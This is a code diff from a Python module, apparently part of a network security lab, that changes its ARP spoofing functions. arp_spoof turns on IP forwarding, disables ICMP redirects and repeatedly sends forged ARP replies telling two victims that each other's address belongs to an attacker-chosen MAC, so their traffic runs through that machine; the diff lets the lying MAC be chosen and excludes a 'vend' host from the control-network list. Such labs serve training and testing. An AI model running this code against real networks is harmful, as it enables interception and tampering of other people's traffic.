@@ -145,27 +145,28 @@ def answer_arp_for(address: str, seconds: float) -> None:
                 raw.send(frames.ethernet(mac("att"), asker[0], ETHERTYPE_ARP, reply))
 
 
-def arp_spoof(victims: tuple[str, str], times: int, pause: float) -> None:
-    """Tell each victim that the other one's address has the attacker's MAC, again and again; relay what comes."""
+def arp_spoof(victims: tuple[str, str], times: int, pause: float, liar: str = "att") -> None:
+    """Tell each victim that the other one's address has the MAC of `liar`, again and again; relay what comes."""
     Path("/proc/sys/net/ipv4/ip_forward").write_text("1")
     Path("/proc/sys/net/ipv4/conf/all/send_redirects").write_text("0")
     Path("/proc/sys/net/ipv4/conf/eth0/send_redirects").write_text("0")
     lies = []
     for told, claimed in (victims, victims[::-1]):
-        packet = frames.arp(ARP_REPLY, (mac("att"), ip(claimed)), (mac(told), ip(told)))
-        lies.append(frames.ethernet(mac("att"), mac(told), ETHERTYPE_ARP, packet))
+        packet = frames.arp(ARP_REPLY, (mac(liar), ip(claimed)), (mac(told), ip(told)))
+        lies.append(frames.ethernet(mac(liar), mac(told), ETHERTYPE_ARP, packet))
     frames.send_frames(lies * times, pause)
 
 
-def arp_restore(victims: tuple[str, str]) -> None:
+def arp_restore(victims: tuple[str, str], liar: str = "att") -> None:
     """Tell the truth again."""
     truths = []
     for told, claimed in (victims, victims[::-1]):
         packet = frames.arp(ARP_REPLY, (mac(claimed), ip(claimed)), (mac(told), ip(told)))
-        truths.append(frames.ethernet(mac("att"), mac(told), ETHERTYPE_ARP, packet))
+        truths.append(frames.ethernet(mac(liar), mac(told), ETHERTYPE_ARP, packet))
     frames.send_frames(truths * 2, 0.05)
 
 
 def control_hosts() -> list[str]:
-    """Names of the hosts on the control network, the attacker left out."""
-    return [host.name for host in HOSTS.values() if host.ip.startswith("10.9.1.") and host.name != "att"]
+    """Names of the hosts on the control network, the strangers left out."""
+    own = (host for host in HOSTS.values() if host.ip.startswith("10.9.1."))
+    return [host.name for host in own if host.name not in ("att", "vend")]
